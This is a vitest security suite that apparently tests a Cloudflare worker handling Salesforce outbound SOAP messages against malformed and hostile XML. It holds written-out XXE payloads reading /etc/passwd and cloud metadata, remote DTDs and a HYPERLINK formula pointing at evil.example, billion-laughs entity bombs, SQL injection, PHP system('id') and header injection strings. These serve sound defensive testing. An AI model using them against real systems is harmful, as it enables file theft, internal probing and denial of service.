import { reset } from 'cloudflare:test'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { aClosedCase, anId, outboundMessage, type Sent } from '../support/outbound.ts'
import { attack, canary, printTallies } from './attack.ts'
import { doorsOf, type Door } from './doors.ts'
import { aHouse, stored, type House } from './house.ts'

let house: House
let trigger: Door
beforeAll(async () => {
  house = await aHouse()
  trigger = doorsOf(house).find(({ name }) => name === 'trigger')!
})
afterAll(async () => {
  printTallies()
  await reset()
})

const message = (...notifications: Sent[]) =>
  outboundMessage({
    organizationId: house.organizationId,
    notifications: notifications.length > 0 ? notifications : [aClosedCase({ fields: { Id: anId('500'), CaseNumber: 'VALUE' } })], // prettier-ignore
  })
/** A message with a part put in behind its declaration. */
const headed = (part: string) => message().replace('<soapenv:Envelope', `${part}<soapenv:Envelope`)
const withValue = (value: string) => message().replace('VALUE', value)
const post = (body: BodyInit) => attack(trigger, () => trigger.send({ body }))
const le = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le'))
const be = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le').swap16())
const laughs = (levels: number) =>
  `<!DOCTYPE lolz [<!ENTITY lol "${canary}">${Array.from({ length: levels }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`).join('')}]>`

/** The field that was stored last. */
const lastValue = (): Promise<string> =>
  house.inside((sql) => {
    const row = sql.exec<{ f: string }>('SELECT fields_json AS f FROM notifications ORDER BY id DESC LIMIT 1').one()
    return (JSON.parse(row.f) as Record<string, string>)['CaseNumber'] ?? ''
  })

describe('a published attack on an XML parser', () => {
  it.each<[string, () => BodyInit]>([
    ['billion laughs', () => headed(laughs(10)).replace('VALUE', '&lol10;')],
    ['billion laughs that nobody calls', () => headed(laughs(10))],
    ['quadratic blow-up', () => headed(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`).replace('VALUE', '&a;'.repeat(50_000))], // prettier-ignore
    ['an entity that names itself', () => headed('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>').replace('VALUE', '&a;')], // prettier-ignore
    ['a file', () => headed('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>').replace('VALUE', '&a;')],
    ['an address', () => headed('<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">]>').replace('VALUE', '&a;')], // prettier-ignore
    ['a PHP filter', () => headed('<!DOCTYPE x [<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=x">]>')],
    ['a remote DTD', () => headed('<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">')],
    [
      'a public DTD',
      () => headed('<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/x.dtd">'),
    ],
    ['a parameter entity', () => headed('<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>')],
    ['an attribute list', () => headed('<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>')],
    ['a notation', () => headed('<!DOCTYPE x [<!NOTATION n SYSTEM "calc.exe">]>')],
    ['an empty DOCTYPE', () => headed('<!DOCTYPE x>')],
    ['a DOCTYPE in small letters', () => headed('<!doctype x>')],
    ['a DOCTYPE split by a line end', () => headed('<!DOC\nTYPE x>')],
    ['a DOCTYPE after a comment', () => headed('<!-- <a> --><!DOCTYPE x>')],
    ['a DOCTYPE behind the envelope', () => `${message()}<!DOCTYPE x>`],
    ['a DOCTYPE inside the body', () => message().replace('<soapenv:Body>', '<!DOCTYPE x><soapenv:Body>')],
    ['a DOCTYPE with a quoted bracket', () => headed('<!DOCTYPE x [<!ENTITY a "]>">]>')],
    ['a DOCTYPE in UTF-16, little end first', () => le(`\ufeff${headed('<!DOCTYPE x>').replace('UTF-8', 'UTF-16')}`)],
    ['a DOCTYPE in UTF-16, big end first', () => be(`\ufeff${headed('<!DOCTYPE x>').replace('UTF-8', 'UTF-16')}`)],
    ['a DOCTYPE in UTF-16 without a mark', () => le(headed('<!DOCTYPE x>'))],
    ['a whole message in UTF-16', () => le(`\ufeff${message().replace('UTF-8', 'UTF-16')}`)],
    ['a DOCTYPE in UTF-7', () => headed('+ADw-+ACE-DOCTYPE x+AD4-').replace('UTF-8', 'UTF-7')],
    ['a DOCTYPE in EBCDIC', () => headed('').replace('UTF-8', 'IBM037')],
    ['UTF-32', () => new Uint8Array([0xff, 0xfe, 0, 0, ...[...message()].flatMap((letter) => [letter.charCodeAt(0), 0, 0, 0])])], // prettier-ignore
    ['letters longer than they need be', () => new Uint8Array([0xc0, 0xbc, ...new TextEncoder().encode(message())])],
    ['a lone surrogate in UTF-8', () => new Uint8Array(Buffer.from(message()).map((byte) => (byte === 0x56 ? 0xed : byte)))], // prettier-ignore
    ['two declarations', () => message().replace('?>', '?><?xml version="1.0" encoding="UTF-16"?>')],
    ['a declaration in the middle', () => withValue('<?xml version="1.0"?>')],
    ['a style sheet', () => headed('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>')],
    ['a processing instruction in a value', () => withValue('<?php system("id") ?>')],
    ['a comment that does not end', () => withValue('<!--')],
    ['a comment with two hyphens', () => withValue('<!-- -- -->')],
    ['a CDATA section that does not end', () => withValue('<![CDATA[')],
    ['XInclude in a value', () => withValue('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')], // prettier-ignore
    ['a reference to nothing', () => withValue('&#x0;')],
    ['a reference beyond Unicode', () => withValue('&#x110000;')],
    ['a reference of a million digits', () => withValue(`&#${'1'.repeat(1_000_000)};`)],
    ['an HTML entity', () => withValue('&nbsp;')],
    ['ten thousand namespaces', () => message().replace('<notifications ', `<notifications ${Array.from({ length: 10_000 }, (_, n) => `xmlns:n${n}="urn:n"`).join(' ')} `)], // prettier-ignore
    ['a prefix bound to xml', () => message().replace('<notifications ', '<notifications xmlns:xml="urn:x" ')],
    ['a field of a prefix that was bound anew', () => message().replace('<sf:CaseNumber>', '<sf:CaseNumber xmlns:sf="urn:x">')], // prettier-ignore
    ['two attributes of one name by two prefixes', () => message().replace('xsi:type="sf:Case"', 'xsi:type="sf:Case" xmlns:y="http://www.w3.org/2001/XMLSchema-instance" y:type="sf:Case"')], // prettier-ignore
    ['a name of three million letters', () => message().replaceAll('CaseNumber', 'C'.repeat(1_500_000))],
    ['an attribute of four million letters that is cut', () => message().replace('xsi:type="', `x="${'a'.repeat(4_000_000)}`)], // prettier-ignore
  ])('%s is refused, and nothing is stored', async (_, body) => {
    const before = await stored(house)
    const { status, text } = await post(body())
    expect([status, JSON.parse(text)]).toEqual([400, { code: 'malformed' }])
    expect(await stored(house)).toBe(before)
  })

  it.each<[string, string, string]>([
    [
      'a DOCTYPE in a CDATA section',
      '<![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>&a;]]>',
      '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
    ],
    ['a DOCTYPE in a comment', 'a<!-- <!DOCTYPE x> -->b', 'ab'],
    ['an escaped DOCTYPE', '&lt;!DOCTYPE x&gt;', '<!DOCTYPE x>'],
    ['an entity that was escaped twice', '&amp;lt;', '&lt;'],
    ['CDATA in CDATA', '<![CDATA[<![CDATA[x]]>', '<![CDATA[x'],
    ['SQL', "1'); DROP TABLE notifications; --", "1'); DROP TABLE notifications; --"],
    ['a formula', '=HYPERLINK("https://evil.example","x")', '=HYPERLINK("https://evil.example","x")'],
    ['Liquid', '{{ org.secret }}{% include "x" %}', '{{ org.secret }}{% include "x" %}'],
    ['a header', 'x&#13;&#10;Bcc: all@example.com', 'x\r\nBcc: all@example.com'],
  ])('%s in a value is text and nothing else', async (_, written, read) => {
    expect((await post(withValue(written))).status).toBe(200)
    expect(await lastValue()).toBe(read)
  })

  it.each(['constructor', 'hasOwnProperty', 'toString', 'valueOf', 'isPrototypeOf', 'then', 'toJSON'])(
    'a field called %s is a field, and what is not there stays away',
    async (name) => {
      expect((await post(message(aClosedCase({ fields: { Id: anId('500'), [name]: canary } })))).status).toBe(200)
      expect((await post(message(aClosedCase({ fields: { Id: anId('500') } })))).status).toBe(200)
      const { rows } = (await house.api('GET', 'notifications?limit=200')).body
      expect(rows!.filter(({ fields }) => Object.hasOwn(fields ?? {}, name))).toHaveLength(1)
    },
  )
})

describe('a message that names another host, session or org', () => {
  it('is taken for what it says of records only', async () => {
    const body = message()
      .replaceAll('https://example.my.salesforce.com', 'https://another-host.example')
      .replace('<SessionId xsi:nil="true"/>', '<SessionId>00D!a-session</SessionId>')
    expect((await post(body)).status).toBe(200)
    const dump = await house.inside(
      (sql) =>
      JSON.stringify(['notifications', 'connections', 'org', 'alerts'].map((table) => sql.exec(`SELECT * FROM ${table}`).toArray())), // prettier-ignore
    )
    expect(dump).not.toContain('another-host')
    expect(dump).not.toContain('a-session')
  })

  it.each(['00D', ' ', "00D000000000001' OR '1'='1", '00D00000000000\u0131', '005000000000001AAA', '<![CDATA[]]>'])(
    'with the organization %j is not taken',
    async (organizationId) => {
      const before = await stored(house)
      const { status, text } = await post(outboundMessage({ organizationId }))
      expect([400, 403]).toContain(status)
      expect(text).not.toContain('Ack')
      expect(await stored(house)).toBe(before)
    },
  )
})

describe('the same bad message again and again', () => {
  it('is one alert, and says nothing of what was in it', async () => {
    const body = headed(laughs(3))
    const alerts = () => house.inside((sql) => sql.exec('SELECT id, detail FROM alerts').toArray())
    await post(body)
    const before = await alerts()
    for (let times = 0; times < 20; times++) await post(body)
    expect(await alerts()).toEqual(before)
    expect(JSON.stringify(before)).not.toContain(canary)
  })
})
